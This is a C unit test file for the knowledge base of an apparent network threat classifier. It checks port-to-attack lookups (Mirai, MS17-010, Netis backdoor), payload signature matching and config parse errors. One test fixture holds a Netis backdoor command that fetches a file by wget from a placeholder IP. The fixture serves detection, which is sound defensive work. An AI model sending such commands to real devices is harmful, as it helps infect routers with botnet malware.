/* Knowledge base: the built-in entries, lookups, payload signatures, user
 * files and the exact file:line errors for bad input. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "check.h"
#include "classify/kb.h"
#include "util/parse.h"

/* The keys a minimal valid entry needs besides port or payload. */
#define REQUIRED "category = test\ntitle = A test\nreference = https://example.org/kb\ndate = 2020-01-02\n"

static bool contains(const char *haystack, const char *needle)
{
    return haystack != NULL && strstr(haystack, needle) != NULL;
}

static const tt_kb_entry *first(const tt_kb *kb, uint8_t proto, int32_t port)
{
    const tt_kb_entry *e = NULL;
    return tt_kb_lookup(kb, proto, port, &e, 1) == 1 ? e : NULL;
}

static void test_builtin_entries_are_complete(const tt_kb *kb)
{
    CHECK(tt_kb_count(kb) >= 40);
    for (size_t i = 0; i < tt_kb_count(kb); i++) {
        const tt_kb_entry *e = tt_kb_get(kb, i);
        int32_t days;
        CHECK(e != NULL && e->id != NULL && e->id[0] != '\0');
        CHECK(e->category != NULL && e->category[0] != '\0');
        CHECK(e->title != NULL && e->title[0] != '\0');
        CHECK(e->reference != NULL &&
              (strncmp(e->reference, "https://", 8) == 0 || strncmp(e->reference, "http://", 7) == 0));
        CHECK(e->date != NULL && tt_parse_date(e->date, &days));
        CHECK(e->products != NULL && e->cves != NULL && e->malware != NULL && e->tools != NULL);
        CHECK(e->proto == 6 || e->proto == 17 || e->proto == 1 || e->proto == 58);
        CHECK(e->port >= 0 || e->payload != NULL);
        CHECK((e->payload == NULL) == (e->payload_len == 0));
        for (size_t j = 0; j < i; j++)
            CHECK(strcmp(tt_kb_get(kb, j)->id, e->id) != 0);
        if (e->port >= 0) {
            /* Every port entry is reachable through the index. */
            const tt_kb_entry *found[16];
            size_t n = tt_kb_lookup(kb, e->proto, e->port, found, 16);
            bool seen = false;
            for (size_t j = 0; j < n; j++)
                seen = seen || found[j] == e;
            CHECK(seen);
        }
    }
    CHECK(tt_kb_get(kb, tt_kb_count(kb)) == NULL);
}

static void test_lookups(const tt_kb *kb)
{
    static const struct {
        uint8_t proto;
        int32_t port;
        const char *category, *title_part, *cve;
    } cases[] = {
        {17, 53413, "iot", "Netis/Netcore", "CVE-2025-34117"},
        {6, 9600, "ics", "OMRON FINS", ""},
        {17, 9600, "ics", "OMRON FINS", ""},
        {6, 502, "ics", "Modbus", ""},
        {6, 102, "ics", "S7comm", "CVE-2020-15782"},
        {6, 20000, "ics", "DNP3", ""},
        {6, 44818, "ics", "EtherNet/IP", "CVE-2021-22681"},
        {17, 47808, "ics", "BACnet", ""},
        {6, 1911, "ics", "Niagara Fox", ""},
        {6, 2404, "ics", "IEC 60870-5-104", ""},
        {6, 789, "ics", "Red Lion Crimson", ""},
        {6, 1962, "ics", "PC WORX", "CVE-2019-9201"},
        {6, 20547, "ics", "ProConOS", "CVE-2014-9195"},
        {6, 23, "iot", "Mirai", ""},
        {6, 2323, "iot", "Mirai", ""},
        {6, 445, "file-sharing", "MS17-010", "CVE-2017-0144"},
        {6, 1433, "database", "SQL Server", ""},
        {6, 3389, "remote-access", "BlueKeep", "CVE-2019-0708"},
        {6, 22, "remote-access", "SSH", ""},
        {6, 7547, "iot", "Misfortune Cookie", "CVE-2014-9222"},
        {6, 5555, "iot", "ADB", ""},
        {6, 37215, "iot", "HG532", "CVE-2017-17215"},
        {6, 52869, "iot", "miniigd", "CVE-2014-8361"},
        {6, 6379, "database", "Redis", "CVE-2022-0543"},
        {17, 11211, "reflection", "memcached", "CVE-2018-1000115"},
        {17, 123, "reflection", "monlist", "CVE-2013-5211"},
        {17, 1900, "reflection", "SSDP", ""},
        {17, 53, "reflection", "DNS", ""},
        {6, 80, "web", "HTTP", ""},
        {6, 25, "mail", "SMTP", "CVE-2019-10149"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const tt_kb_entry *e = first(kb, cases[i].proto, cases[i].port);
        CHECK(e != NULL);
        if (e == NULL) {
            fprintf(stderr, "case %zu: no entry for %d/%u\n", i, cases[i].port, cases[i].proto);
            continue;
        }
        CHECK_EQ_STR(e->category, cases[i].category);
        CHECK_EQ_STR(tt_kb_category(kb, cases[i].proto, cases[i].port), cases[i].category);
        CHECK(contains(e->title, cases[i].title_part));
        CHECK(contains(e->cves, cases[i].cve));
        CHECK_EQ_INT(e->port, cases[i].port);
        CHECK_EQ_INT(e->proto, cases[i].proto);
    }

    /* Several entries per port, in file order. */
    const tt_kb_entry *found[8];
    CHECK_EQ_INT(tt_kb_lookup(kb, 17, 53413, found, 8), 2);
    CHECK_EQ_STR(found[0]->id, "netis-backdoor");
    CHECK_EQ_STR(found[1]->id, "netis-backdoor-login");
    CHECK_EQ_INT(tt_kb_lookup(kb, 17, 53413, found, 1), 1);
    CHECK_EQ_INT(tt_kb_lookup(kb, 6, 7547, found, 8), 2);
    CHECK(contains(found[1]->cves, "CVE-2016-10372"));
    CHECK(contains(found[1]->malware, "Mirai"));
    CHECK_EQ_INT(tt_kb_lookup(kb, 6, 445, found, 8), 2);
    CHECK(contains(found[1]->malware, "WannaCry"));
    CHECK_EQ_STR(first(kb, 6, 502)->malware, "FrostyGoop");

    /* Unknown ports and the wrong protocol. */
    CHECK_EQ_INT(tt_kb_lookup(kb, 6, 53413, found, 8), 0);
    CHECK_EQ_INT(tt_kb_lookup(kb, 17, 23, found, 8), 0);
    CHECK_EQ_INT(tt_kb_lookup(kb, 6, 65535, found, 8), 0);
    CHECK_EQ_INT(tt_kb_lookup(kb, 6, -1, found, 8), 0);
    CHECK(tt_kb_category(kb, 6, 9999) == NULL);
    CHECK(tt_kb_category(NULL, 6, 23) == NULL);
}

static void test_payloads(const tt_kb *kb)
{
    static const uint8_t netis_command[] = "AA\0\0AAAA cd /tmp || cd /var/run; wget http://198.51.100.7/x";
    static const uint8_t netis_login[] = "AAAAAAAAnetcore";
    static const uint8_t other[] = "\r\n";
    static const uint8_t zero_header[] = "\0\0\0\0\0\0\0\0netcore";
    static const uint8_t monlist[] = {0x17, 0x00, 0x03, 0x2a, 0x00, 0x00, 0x00, 0x00};
    static const uint8_t ssdp[] = "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n";

    const tt_kb_entry *e = tt_kb_match_payload(kb, 17, 53413, netis_command, sizeof netis_command - 1);
    CHECK(e != NULL && strcmp(e->id, "netis-backdoor") == 0);
    CHECK(e != NULL && e->payload_len == 8 && memcmp(e->payload, "AA\0\0AAAA", 8) == 0);
    /* sizeof includes the string's NUL, which is part of the login datagram. */
    e = tt_kb_match_payload(kb, 17, 53413, netis_login, sizeof netis_login);
    CHECK(e != NULL && strcmp(e->id, "netis-backdoor-login") == 0);
    CHECK(tt_kb_match_payload(kb, 17, 53413, netis_login, sizeof netis_login - 1) == NULL);

    /* A different payload, a shorter one, another port, another protocol. */
    CHECK(tt_kb_match_payload(kb, 17, 53413, other, sizeof other - 1) == NULL);
    CHECK(tt_kb_match_payload(kb, 17, 53413, zero_header, sizeof zero_header - 1) == NULL);
    CHECK(tt_kb_match_payload(kb, 17, 53413, netis_command, 4) == NULL);
    CHECK(tt_kb_match_payload(kb, 17, 53413, NULL, 0) == NULL);
    CHECK(tt_kb_match_payload(kb, 17, 53414, netis_command, sizeof netis_command - 1) == NULL);
    CHECK(tt_kb_match_payload(kb, 6, 53413, netis_command, sizeof netis_command - 1) == NULL);

    e = tt_kb_match_payload(kb, 17, 123, monlist, sizeof monlist);
    CHECK(e != NULL && strcmp(e->id, "ntp-monlist") == 0);
    e = tt_kb_match_payload(kb, 17, 1900, ssdp, sizeof ssdp - 1);
    CHECK(e != NULL && strcmp(e->id, "ssdp-reflection") == 0);
}

/* A user file extends the base; its entries come after the built-in ones. */
static void test_user_file(void)
{
    char err[512] = "";
    tt_kb *kb;
    CHECK_EQ_INT(tt_kb_builtin(&kb, err, sizeof err), TT_OK);
    size_t builtin = tt_kb_count(kb);
    const tt_kb_entry *builtin_first = tt_kb_get(kb, 0);

    char path[] = "/tmp/teiten-test-kb-XXXXXX";
    int fd = mkstemp(path);
    CHECK(fd >= 0);
    FILE *f = fd >= 0 ? fdopen(fd, "w") : NULL;
    CHECK(f != NULL);
    if (f == NULL) {
        tt_kb_free(kb);
        return;
    }
    fputs("# local knowledge\n"
          "[entry local-camera]\n"
          "port = 53413/udp\n"
          "category = iot\n"
          "title = Local camera firmware also listening on 53413\n"
          "products = ExampleCam 2000\n"
          "cve = CVE-2099-12345 ,CVE-2099-0001\n"
          "malware = ExampleBot\n"
          "tool = examplescan\n"
          "reference = https://example.org/advisory\n"
          "date = 2024-02-29\n"
          "description = Seen on our own sensors.\n"
          "\n"
          "[entry local-payload]\n"
          "proto = udp\n"
          "category = scanner\n"
          "title = Example research scanner probe\n"
          "reference = http://scanner.example.net/\n"
          "date = 2023-05-01\n"
          "payload = \"HELLO\\x00\\r\\n\\t\\\\\\\"\"\n"
          "\n"
          "[entry local-icmp]\n"
          "port = 8/icmp\n"
          "category = scanner\n"
          "title = Echo requests from our scanner\n"
          "reference = https://example.org/icmp\n"
          "date = 2023-05-02\n"
          "payload = 5445 4954 454e\n",
          f);
    fclose(f);

    CHECK_EQ_INT(tt_kb_add_file(kb, path, err, sizeof err), TT_OK);
    if (err[0])
        fprintf(stderr, "add_file: %s\n", err);
    CHECK_EQ_INT(tt_kb_count(kb), builtin + 3);
    CHECK(tt_kb_get(kb, 0) == builtin_first); /* entries do not move */

    const tt_kb_entry *found[8];
    CHECK_EQ_INT(tt_kb_lookup(kb, 17, 53413, found, 8), 3);
    CHECK_EQ_STR(found[2]->id, "local-camera");
    CHECK_EQ_STR(found[2]->cves, "CVE-2099-12345, CVE-2099-0001");
    CHECK_EQ_STR(found[2]->products, "ExampleCam 2000");
    CHECK_EQ_STR(found[2]->malware, "ExampleBot");
    CHECK_EQ_STR(found[2]->tools, "examplescan");
    CHECK_EQ_STR(found[2]->date, "2024-02-29");
    CHECK_EQ_STR(tt_kb_category(kb, 17, 53413), "iot"); /* the built-in entry still comes first */

    const tt_kb_entry *p = tt_kb_get(kb, builtin + 1);
    CHECK(p != NULL && p->port == -1 && p->proto == 17);
    CHECK(p != NULL && p->payload_len == 11 && memcmp(p->payload, "HELLO\0\r\n\t\\\"", 11) == 0);
    CHECK_EQ_STR(p->products, "");
    CHECK_EQ_STR(p->cves, "");
    static const uint8_t hello[] = "HELLO\0\r\n\t\\\"and more";
    /* Payload-only entries match on any port of their protocol, but not on another protocol. */
    CHECK(tt_kb_match_payload(kb, 17, 40000, hello, sizeof hello - 1) == p);
    CHECK(tt_kb_match_payload(kb, 17, -1, hello, sizeof hello - 1) == p);
    CHECK(tt_kb_match_payload(kb, 6, 40000, hello, sizeof hello - 1) == NULL);
    CHECK_EQ_INT(tt_kb_lookup(kb, 17, -1, found, 8), 0);

    const tt_kb_entry *icmp = first(kb, 1, 8);
    CHECK(icmp != NULL && strcmp(icmp->id, "local-icmp") == 0);
    CHECK(icmp != NULL && icmp->payload_len == 6 && memcmp(icmp->payload, "TEITEN", 6) == 0);
    CHECK(tt_kb_match_payload(kb, 1, 8, (const uint8_t *)"TEITEN-probe", 12) == icmp);

    /* Text works the same way, and the same IDs cannot be added twice. */
    const char *text = "[entry from-text]\nport = 4444/tcp\n" REQUIRED;
    CHECK_EQ_INT(tt_kb_add_text(kb, text, strlen(text), "extra.conf", err, sizeof err), TT_OK);
    CHECK_EQ_STR(tt_kb_category(kb, 6, 4444), "test");
    CHECK_EQ_INT(tt_kb_add_text(kb, text, strlen(text), "again.conf", err, sizeof err), TT_ERR_FORMAT);
    CHECK_EQ_STR(err, "again.conf:1: duplicate entry ID 'from-text' (first at extra.conf:1)");
    CHECK_EQ_INT(tt_kb_add_file(kb, path, err, sizeof err), TT_ERR_FORMAT);
    CHECK(contains(err, ":2: duplicate entry ID 'local-camera' (first at /tmp/teiten-test-kb-"));
    CHECK_EQ_INT(tt_kb_count(kb), builtin + 4);

    unlink(path);
    CHECK_EQ_INT(tt_kb_add_file(kb, path, err, sizeof err), TT_ERR_IO);
    CHECK(contains(err, "No such file or directory"));
    CHECK(strncmp(err, path, strlen(path)) == 0);
    CHECK_EQ_INT(tt_kb_count(kb), builtin + 4);
    tt_kb_free(kb);
    tt_kb_free(NULL);
}

static void test_bad_files(void)
{
    static const struct {
        const char *text, *error;
    } bad[] = {
        {"[entry a]\nport = 99999/tcp\n" REQUIRED,
         "bad.conf:2: bad port '99999/tcp' (expected PORT/tcp, PORT/udp, TYPE/icmp or TYPE/icmp6)"},
        {"[entry a]\nport = 23\n" REQUIRED,
         "bad.conf:2: bad port '23' (expected PORT/tcp, PORT/udp, TYPE/icmp or TYPE/icmp6)"},
        {"[entry a]\nport = 23/sctp\n" REQUIRED,
         "bad.conf:2: bad port '23/sctp' (expected PORT/tcp, PORT/udp, TYPE/icmp or TYPE/icmp6)"},
        {"[entry a]\nport = 300/icmp\n" REQUIRED, "bad.conf:2: bad port '300/icmp' (an ICMP type is 0..255)"},
        {"[entry a]\nport = 23/tcp\ncolour = red\n" REQUIRED,
         "bad.conf:3: unknown key 'colour' (known: port, proto, category, title, products, cve, "
         "malware, tool, reference, date, payload, description)"},
        {"[entry a]\nport = 23/tcp\ncategory = test\ntitle = t\nreference = https://example.org/\n"
         "date = 2015-02-29\n",
         "bad.conf:6: bad date '2015-02-29' (expected YYYY-MM-DD)"},
        {"[entry a]\nport = 23/tcp\ncategory = test\ntitle = t\nreference = https://example.org/\n"
         "date = 29/02/2016\n",
         "bad.conf:6: bad date '29/02/2016' (expected YYYY-MM-DD)"},
        {"[entry a]\nport = 23/udp\npayload = 41 4G\n" REQUIRED,
         "bad.conf:3: bad payload: expected hex bytes like '41 41 00 00' or a quoted string"},
        {"[entry a]\nport = 23/udp\npayload = 414\n" REQUIRED,
         "bad.conf:3: bad payload: expected hex bytes like '41 41 00 00' or a quoted string"},
        {"[entry a]\nport = 23/udp\npayload = \"AA\\q\"\n" REQUIRED,
         "bad.conf:3: bad payload: unknown escape (use \\xHH, \\0, \\n, \\r, \\t, \\\\ or \\\")"},
        {"[entry a]\nport = 23/udp\npayload = \"AA\\x4\"\n" REQUIRED,
         "bad.conf:3: bad payload: \\x needs two hex digits"},
        {"[entry a]\nport = 23/udp\npayload = \"AA\n" REQUIRED,
         "bad.conf:3: bad payload: a quoted payload must end with '\"'"},
        {"[entry a]\nport = 23/udp\npayload = \"\"\n" REQUIRED, "bad.conf:3: bad payload: empty payload"},
        {"[entry a]\nport = 23/udp\npayload = \"A\"A\"\n" REQUIRED,
         "bad.conf:3: bad payload: unescaped '\"' inside a quoted payload"},
        {"[entry a]\nport = 23/tcp\ncategory = test\nreference = https://example.org/\ndate = 2020-01-01\n",
         "bad.conf:1: entry 'a' has no 'title'"},
        {"[entry a]\nport = 23/tcp\ntitle = t\nreference = https://example.org/\ndate = 2020-01-01\n",
         "bad.conf:1: entry 'a' has no 'category'"},
        {"[entry a]\nport = 23/tcp\ncategory = test\ntitle = t\ndate = 2020-01-01\n",
         "bad.conf:1: entry 'a' has no 'reference'"},
        {"[entry a]\nport = 23/tcp\ncategory = test\ntitle = t\nreference = https://example.org/\n",
         "bad.conf:1: entry 'a' has no 'date'"},
        {"[entry ok]\nport = 1/tcp\n" REQUIRED "\n[entry b]\n" REQUIRED,
         "bad.conf:8: entry 'b' needs a 'port' or a 'payload'"},
        {"[entry a]\npayload = 41\n" REQUIRED, "bad.conf:1: payload-only entry 'a' needs a 'proto'"},
        {"[entry a]\nport = 23/tcp\nproto = tcp\n" REQUIRED,
         "bad.conf:1: entry 'a' has both 'port' and 'proto' (the port names its protocol)"},
        {"[entry a]\nproto = sctp\n", "bad.conf:2: bad proto 'sctp' (expected tcp, udp, icmp or icmp6)"},
        {"[entry a]\nport = 23/tcp\nport = 24/tcp\n", "bad.conf:3: 'port' given twice in entry 'a'"},
        {"port = 23/tcp\n", "bad.conf:1: key 'port' outside an [entry ID] section"},
        {"# comment\n[sensor a]\n", "bad.conf:2: unknown section [sensor] (expected [entry ID])"},
        {"[entry]\n", "bad.conf:1: [entry] needs an ID: [entry ID]"},
        {"[entry a]\nport = 23/tcp\n" REQUIRED "[entry a]\nport = 24/tcp\n" REQUIRED,
         "bad.conf:7: duplicate entry ID 'a' (first at bad.conf:1)"},
        {"[entry telnet-mirai]\nport = 23/tcp\n" REQUIRED,
         "bad.conf:1: duplicate entry ID 'telnet-mirai' (first at data/kb.conf:"},
        {"[entry a]\nport = 23/tcp\ncategory = Test\n",
         "bad.conf:3: bad category 'Test' (lower-case letters, digits and '-', at most 32)"},
        {"[entry a]\nport = 23/tcp\nreference = ftp://example.org/x\n",
         "bad.conf:3: bad reference 'ftp://example.org/x' (expected one http:// or https:// URL)"},
        {"[entry a]\nport = 23/tcp\nreference = https://example.org/a https://example.org/b\n",
         "bad.conf:3: bad reference 'https://example.org/a https://example.org/b' "
         "(expected one http:// or https:// URL)"},
        {"[entry a]\nport = 23/tcp\ncve = CVE-17-1\n",
         "bad.conf:3: bad cve 'CVE-17-1' (expected CVE-YYYY-NNNN, comma-separated)"},
        {"[entry a]\nport = 23/tcp\ncve = CVE-2017-0144,,CVE-2017-0145\n",
         "bad.conf:3: bad cve 'CVE-2017-0144,,CVE-2017-0145' (expected CVE-YYYY-NNNN, comma-separated)"},
        {"[entry a]\nport = 23/tcp\ntitle =\n", "bad.conf:3: title must be 1..200 characters"},
        {"[entry a]\nport 23/tcp\n", "bad.conf:2: expected 'key = value'"},
    };
    char err[512];
    tt_kb *kb;
    CHECK_EQ_INT(tt_kb_builtin(&kb, err, sizeof err), TT_OK);
    size_t builtin = tt_kb_count(kb);
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        err[0] = '\0';
        tt_status st = tt_kb_add_text(kb, bad[i].text, strlen(bad[i].text), "bad.conf", err, sizeof err);
        CHECK(st != TT_OK);
        bool ok = strncmp(err, bad[i].error, strlen(bad[i].error)) == 0;
        /* Exact, except for the duplicate of a built-in ID whose line number may move. */
        if (ok && strstr(bad[i].error, "data/kb.conf:") == NULL)
            ok = strcmp(err, bad[i].error) == 0;
        if (!ok)
            fprintf(stderr, "case %zu: got '%s', want '%s'\n", i, err, bad[i].error);
        CHECK(ok);
        /* A rejected file adds nothing, not even the valid entries before the error. */
        CHECK_EQ_INT(tt_kb_count(kb), builtin);
    }
    CHECK(tt_kb_category(kb, 6, 1) == NULL);
    tt_kb_free(kb);
}

int main(void)
{
    char err[512] = "";
    tt_kb *kb = NULL;
    tt_status st = tt_kb_builtin(&kb, err, sizeof err);
    CHECK_EQ_INT(st, TT_OK);
    if (st != TT_OK) {
        fprintf(stderr, "built-in knowledge base: %s\n", err);
        return check_report("test_kb");
    }
    test_builtin_entries_are_complete(kb);
    test_lookups(kb);
    test_payloads(kb);
    tt_kb_free(kb);
    test_user_file();
    test_bad_files();
    return check_report("test_kb");
}
